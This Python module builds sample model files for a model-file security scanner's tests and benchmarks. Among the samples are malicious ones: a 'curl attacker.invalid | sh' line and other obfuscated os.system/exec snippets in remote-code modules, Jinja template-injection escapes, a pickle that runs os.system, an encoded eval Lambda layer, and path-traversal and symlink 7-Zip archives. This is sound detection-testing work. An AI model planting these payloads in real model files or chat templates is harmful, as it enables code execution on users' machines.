"""Builders of issue-17 format samples (TensorFlow SavedModel, Keras metadata, TFLite, GGUF, chat
templates, remote code, 7-Zip), shared by the regression tests and ``benchmarks/scanner/corpus_formats17``.

The protobufs are written by a ten-line wire encoder and the TFLite flatbuffer by hand, from the field
numbers of the TensorFlow schemas: no TensorFlow, no generated code.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
from collections.abc import Iterable

# -- protobuf wire encoding ------------------------------------------------------------------------------


def varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def field(num: int, value: int | bytes | str) -> bytes:
    """One field: an int is a varint, bytes/str are length-delimited."""
    if isinstance(value, int):
        return varint(num << 3) + varint(value)
    data = value.encode() if isinstance(value, str) else value
    return varint(num << 3 | 2) + varint(len(data)) + data


def msg(*parts: bytes) -> bytes:
    return b"".join(parts)


def node_def(name: str, op: str, attrs: dict[str, str] | None = None) -> bytes:
    """NodeDef: name=1, op=2, input=3, device=4, attr=5 (map<string, AttrValue{s=2}>)."""
    out = field(1, name) + field(2, op)
    for k, v in (attrs or {}).items():
        out += field(5, field(1, k) + field(2, field(2, v)))
    return out


def function_def(name: str, ops: Iterable[str]) -> bytes:
    """FunctionDef: signature=1 (OpDef.name=1), node_def=3."""
    out = field(1, field(1, name))
    for i, op in enumerate(ops):
        out += field(3, node_def(f"{op.lower()}_{i}", op))
    return out


BENIGN_OPS = [
    "Placeholder",
    "VarHandleOp",
    "ReadVariableOp",
    "MatMul",
    "BiasAdd",
    "Relu",
    "Identity",
    "StatefulPartitionedCall",
    "NoOp",
    "Const",
]
SAVER_OPS = [
    "SaveV2",
    "RestoreV2",
    "MergeV2Checkpoints",
    "ShardedFilename",
    "StringJoin",
    "StaticRegexFullMatch",
]


def saved_model(
    graph_ops: Iterable[str] = (),
    functions: dict[str, list[str]] | None = None,
    *,
    keras_metadata: Iterable[str] = (),
    assets: Iterable[str] = (),
    graph_nodes: Iterable[bytes] = (),
    stripped_ops: Iterable[str] = (),
) -> bytes:
    """A ``saved_model.pb``: SavedModel{schema=1, meta_graphs=2: MetaGraphDef{meta_info_def=1,
    graph_def=2{node=1, library=2{function=1}}, asset_file_def=6{filename=2}, object_graph_def=7}}.
    """
    functions = (
        {"__inference_serve_12": BENIGN_OPS, "__inference_save_34": SAVER_OPS}
        if functions is None
        else functions
    )
    graph = b"".join(field(1, node_def(f"n{i}", op)) for i, op in enumerate(graph_ops))
    graph += b"".join(field(1, n) for n in graph_nodes)
    lib = b"".join(field(1, function_def(name, ops)) for name, ops in functions.items())
    if lib:
        graph += field(2, lib)
    graph += field(4, field(1, 1808))  # versions.producer
    ops_list = b"".join(field(1, field(1, op)) for op in stripped_ops)
    info = field(2, ops_list) + field(4, "serve") + field(5, "2.15.0")
    meta = field(1, info) + field(2, graph)
    for a in assets:
        meta += field(6, field(2, a))
    objects = b"".join(field(1, field(4, field(1, "_tf_keras_layer") + field(3, m))) for m in keras_metadata)
    objects = field(1, field(1, field(1, "root"))) + objects  # a root node with a child reference
    meta += field(7, objects)
    return field(1, 1) + field(2, meta)


def keras_metadata_pb(layers: Iterable[str]) -> bytes:
    """``keras_metadata.pb``: SavedMetadata{nodes=1: {node_id=1, node_path=2, identifier=3, metadata=4}}."""
    out = b""
    for i, m in enumerate(layers):
        out += field(1, field(1, i) + field(2, f"root.layer-{i}") + field(3, "_tf_keras_layer") + field(4, m))
    return out


def keras2_layer(class_name: str, config: dict[str, object] | None = None) -> str:
    return json.dumps(
        {
            "name": class_name.lower(),
            "trainable": True,
            "expects_training_arg": False,
            "dtype": "float32",
            "batch_input_shape": None,
            "stateful": False,
            "must_restore_from_config": False,
            "class_name": class_name,
            "config": {"name": class_name.lower(), "trainable": True, "dtype": "float32", **(config or {})},
        }
    )


KERAS2_LAMBDA = keras2_layer(
    "Lambda",
    {
        "function": {
            "class_name": "__lambda__",
            "config": {
                "code": "4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAAdAB8AIMBUwCpAU4pAdoEZXZhbKkB2gF4qQByAwAAAPoBeNoIPGxhbWJkYT4BAAAA8wAAAAA=",
                "defaults": None,
                "closure": None,
            },
        },
        "function_type": "lambda",
        "module": "__main__",
        "output_shape": None,
        "arguments": {},
    },
)
KERAS2_DENSE = keras2_layer("Dense", {"units": 4, "activation": "relu", "use_bias": True})


# -- TFLite flatbuffer ------------------------------------------------------------------------------------


def tflite(ops: Iterable[tuple[int, str]]) -> bytes:
    """A TFLite model whose ``operator_codes`` are (builtin code, custom code) pairs.

    Layout (little-endian, 4-byte aligned): root offset, "TFL3", the Model vtable and table (version,
    operator_codes), the vector of OperatorCode offsets, then per code a vtable, a table
    (builtin_code i32, custom_code offset, deprecated_builtin_code i8) and the custom string.
    """
    codes = list(ops)
    buf = bytearray(b"\0" * 8)
    buf[4:8] = b"TFL3"
    vt = len(buf)
    buf += struct.pack("<HHHH", 8, 12, 4, 8)  # vsize, tsize, version @4, operator_codes @8
    root = len(buf)
    buf += struct.pack("<iII", root - vt, 3, 0)
    struct.pack_into("<I", buf, 0, root)
    vec = len(buf)
    struct.pack_into("<I", buf, root + 8, vec - (root + 8))
    buf += struct.pack("<I", len(codes)) + b"\0" * (4 * len(codes))
    for i, (builtin, custom) in enumerate(codes):
        ovt = len(buf)
        # fields: 0 deprecated_builtin_code @12, 1 custom_code @8, 2 version (absent), 3 builtin_code @4
        buf += struct.pack("<HHHHHH", 12, 16, 12, 8 if custom else 0, 0, 4)
        table = len(buf)
        buf += struct.pack("<iiIbxxx", table - ovt, builtin, 0, min(builtin, 127))
        slot = vec + 4 + 4 * i
        struct.pack_into("<I", buf, slot, table - slot)
        if custom:
            s = len(buf)
            struct.pack_into("<I", buf, table + 8, s - (table + 8))
            raw = custom.encode()
            buf += struct.pack("<I", len(raw)) + raw + b"\0"
            buf += b"\0" * (-len(buf) % 4)
    return bytes(buf)


BUILTIN_CONV_2D, BUILTIN_FULLY_CONNECTED, BUILTIN_CUSTOM = 3, 9, 32


# -- GGUF, chat templates, remote code ---------------------------------------------------------------------


def gguf(kv: dict[str, str]) -> bytes:
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv))
    for k, v in kv.items():
        kb, vb = k.encode(), v.encode()
        out += struct.pack("<Q", len(kb)) + kb + struct.pack("<IQ", 8, len(vb)) + vb
    return out


LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n' + "
    "message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}"
    "{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}"
)
CHATML_TEMPLATE = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + "
    "'<|im_end|>' + '\\n' }}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
MISTRAL_TEMPLATE = (
    "{{ bos_token }}{% set ns = namespace(system='') %}{% for message in messages %}"
    "{% if message['role'] == 'system' %}{% set ns.system = message['content'] %}{% endif %}"
    "{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token }}{% endif %}"
    "{% if loop.last and tools is defined %}{% for t in tools %}{{ t['function']['name'] }}{% endfor %}{% endif %}"
    "{% endfor %}"
)
BENIGN_TEMPLATES = {"llama3": LLAMA3_TEMPLATE, "chatml": CHATML_TEMPLATE, "mistral": MISTRAL_TEMPLATE}

SSTI_TEMPLATES = {
    "dunder-chain": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "cycler-globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "attr-concat": "{% for m in messages %}{{ m|attr('__cl' ~ 'ass__') }}{% endfor %}",
    "attr-repeat": "{{ ()|attr('_' * 2 ~ 'class' ~ '_' * 2)|attr('_' * 2 ~ 'base' ~ '_' * 2) }}",
    "format-chars": "{% set c = '%c%cclass%c%c'|format(95, 95, 95, 95) %}{{ messages|attr(c) }}",
    "dict-keys": "{% set k = dict(__globals__=1)|list|first %}{{ lipsum|attr(k) }}",
    "reversed": "{{ joiner|attr('__tini__'[::-1])|attr('__slabolg__'[::-1]) }}",
    "join-list": "{{ namespace|attr(['_', '_', 'init', '_', '_']|join) }}",
    "set-block": "{% set p %}__glo{% endset %}{{ lipsum|attr(p ~ 'bals__') }}",
    "template-reference": "{{ self._TemplateReference__context.cycler.__init__ }}",
    "replace": "{{ ''|attr('XXclassXX'|replace('XX', '__')) }}",
    "computed-attr": "{{ messages|attr(messages[0]['content']) }}",
    "computed-subscript": "{% set u = (lipsum|string)[30] %}{% set k = u ~ u ~ 'class' ~ u ~ u %}{{ ''[k] }}",
}


def tokenizer_config(template: object, **extra: object) -> bytes:
    return json.dumps({"bos_token": "<s>", "eos_token": "</s>", "chat_template": template, **extra}).encode()


BENIGN_MODELING = '''"""A custom architecture, as trust_remote_code repositories ship them."""
import json
import math
import os

import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_tiny import TinyConfig


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        self.scale = 1.0 / math.sqrt(config.hidden_size)

    def forward(self, x):
        return torch.relu(self.proj(x)) * self.scale


def save_vocabulary(save_directory, vocab):
    path = os.path.join(save_directory, "vocab.json")
    with open(path, "w", encoding="utf-8") as f:
        json.dump(vocab, f)
    return (path,)
'''

MALICIOUS_MODELING = {
    "os-system-on-import": "import os\nos.system('curl -s http://attacker.invalid/x | sh')\n",
    "subprocess-alias": "import subprocess as sp\n\nclass M:\n    def __init__(self):\n        sp.Popen(['sh', '-c', 'id'])\n",
    "getattr-concat": "import os\n\nclass M:\n    def __init__(self):\n        getattr(os, 'sys' + 'tem')('id')\n",
    "dunder-import": "class M:\n    def __init__(self):\n        __import__('os').popen('id')\n",
    "exec-blob": "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
    "socket-exfil": "import socket\n\ndef f():\n    s = socket.create_connection(('203.0.113.1', 4444))\n",
    "importlib-computed": "import importlib\n\nmod = importlib.import_module(''.join(['o', 's']))\nmod.system('id')\n",
    "builtins-subscript": "class M:\n    def __init__(self, s):\n        __builtins__['ev' + 'al'](s)\n",
    "sys-modules": "import sys\n\ndef f():\n    sys.modules['subprocess'].run(['id'])\n",
    "pickle-loads": "import pickle\n\nclass M:\n    def __init__(self, blob):\n        self.state = pickle.loads(blob)\n",
}


def remote_code_config(ref: str) -> bytes:
    return json.dumps(
        {
            "architectures": ["TinyModel"],
            "model_type": "tiny",
            "auto_map": {"AutoModel": ref},
            "hidden_size": 4,
        }
    ).encode()


# -- pickles, zips, 7-Zip -----------------------------------------------------------------------------------


class _System:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, ("id",)


MALICIOUS_PICKLE = pickle.dumps(_System(), 2)
BENIGN_PICKLE = pickle.dumps({"weights": [0.1, 0.2], "epoch": 3}, 2)


def zip_of(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def keras3(config: dict[str, object], extra: dict[str, bytes] | None = None) -> bytes:
    return zip_of(
        {
            "metadata.json": b'{"keras_version": "3.6.0"}',
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 64,
            **(extra or {}),
        }
    )


KERAS3_DENSE = {
    "module": "keras",
    "class_name": "Sequential",
    "config": {
        "name": "seq",
        "layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"units": 2}}],
    },
    "registered_name": None,
}


def sevenzip(members: dict[str, bytes]) -> bytes:
    """A 7-Zip archive (py7zr is the ``scan`` extra; the tests require it)."""
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as z:
        for name, data in members.items():
            z.writestr(data, name)
    return buf.getvalue()


def sevenzip_renamed(members: dict[str, bytes], renames: dict[str, str]) -> bytes:
    """A 7-Zip archive whose member names are then rewritten (py7zr refuses to write ``../`` names):
    the header is left unencoded, each name replaced in place (same length), the header CRCs recomputed.
    """
    import zlib

    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as z:
        z.set_encoded_header_mode(False)
        for name, data in members.items():
            z.writestr(data, name)
    raw = bytearray(buf.getvalue())
    offset, size = struct.unpack_from("<QQ", raw, 12)
    start = 32 + offset
    header = bytes(raw[start : start + size])
    for old, new in renames.items():
        assert len(old) == len(new)
        header = header.replace(old.encode("utf-16-le"), new.encode("utf-16-le"))
    raw[start : start + size] = header
    struct.pack_into("<I", raw, 28, zlib.crc32(header))
    struct.pack_into("<I", raw, 8, zlib.crc32(bytes(raw[12:32])))
    return bytes(raw)


def sevenzip_symlink(target: str) -> bytes:
    """A 7-Zip archive holding a symbolic link ``link`` -> ``target`` and a regular file."""
    import os
    import tempfile

    import py7zr

    with tempfile.TemporaryDirectory() as tmp:
        link = os.path.join(tmp, "link")
        os.symlink(target, link)
        buf = io.BytesIO()
        with py7zr.SevenZipFile(buf, "w") as z:
            z.write(link, "link")
            z.writestr(BENIGN_PICKLE, "data.pkl")
        return buf.getvalue()


def frozen_graph(ops: Iterable[str]) -> bytes:
    """A TF1 frozen ``GraphDef`` (``frozen_graph.pb``): node=1, versions=4."""
    return b"".join(field(1, node_def(f"n{i}", op)) for i, op in enumerate(ops)) + field(4, field(1, 1808))


def saved_model_text(ops: Iterable[str]) -> bytes:
    """A text-format ``saved_model.pbtxt`` (TensorFlow reads it when ``saved_model.pb`` is absent)."""
    nodes = "".join(
        f'    node {{\n      name: "n{i}"\n      op: "{op}"\n    }}\n' for i, op in enumerate(ops)
    )
    return f"saved_model_schema_version: 1\nmeta_graphs {{\n  graph_def {{\n{nodes}  }}\n}}\n".encode()
